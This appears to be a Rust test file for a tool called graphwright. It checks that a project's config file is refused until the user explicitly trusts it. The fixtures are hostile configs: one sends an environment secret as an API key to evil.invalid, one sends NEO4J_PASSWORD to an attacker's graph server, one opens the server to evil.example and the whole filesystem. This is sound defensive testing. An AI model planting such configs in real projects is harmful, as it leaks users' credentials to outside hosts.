//! A configuration of somebody else's project, as a user meets it.

use crate::program::{Place, Run};
use std::path::Path;

/// Sends a variable of ours to an address that nobody can reach.
const HOSTILE: &str = "[llm]\nprovider = \"openai\"\nmodel = \"m\"\nbase_url = \"https://user:word@evil.invalid/v1\"\n\
                       api_key = \"${SECRET_OF_OURS}\"\n";

fn run(place: &Place, home: &Path, more: &[(&str, &str)], arguments: &[&str]) -> Run {
    let mut command = place.command(arguments);
    command.env("XDG_CONFIG_HOME", home).env("SECRET_OF_OURS", "hunter2").envs(more.iter().copied());
    Run::of(command.output().expect("it runs"))
}

fn assert_refused(run: &Run) {
    assert_eq!(run.code, Some(2), "{}", run.stderr);
    for part in ["not trusted", "${SECRET_OF_OURS}", "https://evil.invalid/v1", "graphwright trust"] {
        assert!(run.stderr.contains(part), "should say {part:?}: {}", run.stderr);
    }
    assert!(!run.stderr.contains("hunter2") && !run.stderr.contains("word@"), "{}", run.stderr);
}

#[test]
fn a_secret_leaves_by_a_projects_file_only_after_trust_was_given() {
    let (place, home) = (Place::new(), tempfile::tempdir().expect("a folder"));
    let status = |more: &[(&str, &str)]| run(&place, home.path(), more, &["status"]);
    let trust = |arguments: &[&str]| run(&place, home.path(), &[], &[&["trust"], arguments].concat());
    let assert_passes = |run: &Run| {
        assert!(run.stderr.contains("nothing is indexed yet"), "{}", run.stderr);
        assert!(!run.stderr.contains("goes to"), "status sends nothing: {}", run.stderr);
    };
    place.write("graphwright.toml", HOSTILE);
    assert_refused(&status(&[]));
    assert_passes(&status(&[("GRAPHWRIGHT_TRUST", "1")]));
    assert_refused(&status(&[("GRAPHWRIGHT_TRUST", "0")]));

    let given = trust(&[]);
    assert_eq!(given.code, Some(0), "{}", given.stderr);
    assert!(given.stdout.contains("sends ${SECRET_OF_OURS} to https://evil.invalid/v1"), "{}", given.stdout);
    assert_passes(&status(&[]));
    place.write("notes.md", "Bob met Ann.");
    let index = run(&place, home.path(), &[], &["--data", "elsewhere", "index", "notes.md"]);
    assert!(index.stderr.contains("goes to https://evil.invalid/v1"), "it is announced: {}", index.stderr);
    assert!(trust(&["--list"]).stdout.contains("graphwright.toml"));

    place.write("graphwright.toml", &HOSTILE.replace("evil.invalid", "evil.invalid:444"));
    let changed = status(&[]);
    assert_eq!(changed.code, Some(2), "{}", changed.stderr);
    assert!(trust(&["--list"]).stdout.contains("no longer trusted"));
    place.write("graphwright.toml", HOSTILE);
    assert_passes(&status(&[]));

    assert_eq!(trust(&["--revoke"]).code, Some(0));
    assert_refused(&status(&[]));
    assert_eq!(trust(&["--list"]).stdout, "");
}

#[test]
fn a_server_lets_nobody_in_by_a_projects_file_alone() {
    let (place, home) = (Place::new(), tempfile::tempdir().expect("a folder"));
    place.write(
        "graphwright.toml",
        "[serve]\nallow_origins = [\"https://evil.example\"]\n[serve.sources]\nall = \"/\"\n",
    );
    let refused = run(&place, home.path(), &[], &["serve", "--listen", "127.0.0.1:0"]);
    assert_eq!(refused.code, Some(2), "{}", refused.stderr);
    for part in [
        "not trusted",
        "lets pages of https://evil.example ask",
        "all reads the folder /",
        "graphwright trust",
    ] {
        assert!(refused.stderr.contains(part), "should say {part:?}: {}", refused.stderr);
    }
    // all else goes on without
    let status = run(&place, home.path(), &[], &["status"]);
    assert!(status.stderr.contains("nothing is indexed yet"), "{}", status.stderr);
    let given = run(&place, home.path(), &[], &["trust"]);
    assert!(given.stdout.contains("lets pages of https://evil.example ask"), "{}", given.stdout);
}

#[test]
fn a_projects_file_raises_a_limit_only_after_trust_was_given() {
    let (place, home) = (Place::new(), tempfile::tempdir().expect("a folder"));
    let status = || run(&place, home.path(), &[], &["status"]);
    place.write("graphwright.toml", "[limits]\nreader_mb = 100000\n");
    let refused = status();
    assert_eq!(refused.code, Some(2), "{}", refused.stderr);
    for part in ["not trusted", "[limits] reader_mb is raised from 1536 to 100000", "graphwright trust"] {
        assert!(refused.stderr.contains(part), "should say {part:?}: {}", refused.stderr);
    }
    assert_eq!(run(&place, home.path(), &[], &["trust"]).code, Some(0));
    assert!(status().stderr.contains("nothing is indexed yet"), "{}", status().stderr);
    // a lower one is nobody's danger
    place.write("graphwright.toml", "[limits]\nreader_mb = 400\n");
    assert!(status().stderr.contains("nothing is indexed yet"), "{}", status().stderr);
}

#[cfg(unix)]
#[test]
fn a_projects_file_that_never_ends_is_refused() {
    let (place, home) = (Place::new(), tempfile::tempdir().expect("a folder"));
    std::os::unix::fs::symlink("/dev/zero", place.path().join("graphwright.toml")).expect("linked");
    for arguments in [&["status"][..], &["trust"][..]] {
        let refused = run(&place, home.path(), &[], arguments);
        assert!(!matches!(refused.code, None | Some(0)), "{arguments:?}: {}", refused.stderr);
        for part in ["cannot read configuration graphwright.toml", "it is too long", "at most 1 MB"] {
            assert!(refused.stderr.contains(part), "should say {part:?}: {}", refused.stderr);
        }
    }
}

#[test]
fn a_file_that_is_named_by_a_flag_needs_trust_as_well() {
    let (place, home) = (Place::new(), tempfile::tempdir().expect("a folder"));
    place.write("theirs.toml", HOSTILE);
    assert_refused(&run(&place, home.path(), &[], &["--config", "theirs.toml", "status"]));
    assert_eq!(run(&place, home.path(), &[], &["--config", "theirs.toml", "trust"]).code, Some(0));
    let status = run(&place, home.path(), &[], &["--config", "theirs.toml", "status"]);
    assert!(status.stderr.contains("nothing is indexed yet"), "{}", status.stderr);
}

#[test]
fn a_password_of_the_environment_does_not_go_to_the_server_of_a_projects_file() {
    let (place, home) = (Place::new(), tempfile::tempdir().expect("a folder"));
    place.write("graphwright.toml", "[graph]\nurl = \"neo4j://evil.invalid\"\n");
    let password = [("NEO4J_PASSWORD", "hunter2")];
    let refused = run(&place, home.path(), &password, &["status"]);
    assert_eq!(refused.code, Some(2), "{}", refused.stderr);
    assert!(refused.stderr.contains("NEO4J_PASSWORD to neo4j://evil.invalid"), "{}", refused.stderr);
    // an address of the user's own is no danger
    for (more, flags) in
        [(None, &["--graph", "neo4j://127.0.0.1:1"][..]), (Some("neo4j://127.0.0.1:1"), &[][..])]
    {
        let mut environment = password.to_vec();
        environment.extend(more.map(|url| ("NEO4J_URI", url)));
        let reached = run(&place, home.path(), &environment, &[flags, &["status"]].concat());
        assert_eq!(reached.code, Some(3), "{}", reached.stderr);
    }
}

#[test]
fn what_stays_on_this_machine_needs_no_trust_and_no_announcement() {
    let (place, home) = (Place::new(), tempfile::tempdir().expect("a folder"));
    place.write("graphwright.toml", &HOSTILE.replace("https://user:word@evil.invalid", "http://localhost:1"));
    let status = run(&place, home.path(), &[], &["status"]);
    assert!(
        status.stderr.contains("nothing is indexed yet") && !status.stderr.contains("goes to"),
        "{}",
        status.stderr
    );
}

#[test]
fn a_variable_that_is_not_set_is_named() {
    let (place, home) = (Place::new(), tempfile::tempdir().expect("a folder"));
    for (section, key) in [
        ("[graph]\nurl = \"neo4j://localhost:1\"", "password"),
        ("[vectors]\nurl = \"http://localhost:1\"", "api_key"),
    ] {
        place.write("graphwright.toml", &format!("{section}\n{key} = \"${{NOT_SET_ANYWHERE}}\"\n"));
        let refused = run(&place, home.path(), &[], &["status"]);
        assert_eq!(refused.code, Some(2), "{}", refused.stderr);
        assert!(refused.stderr.contains(&format!("{key} names ${{NOT_SET_ANYWHERE}}")), "{}", refused.stderr);
    }
}
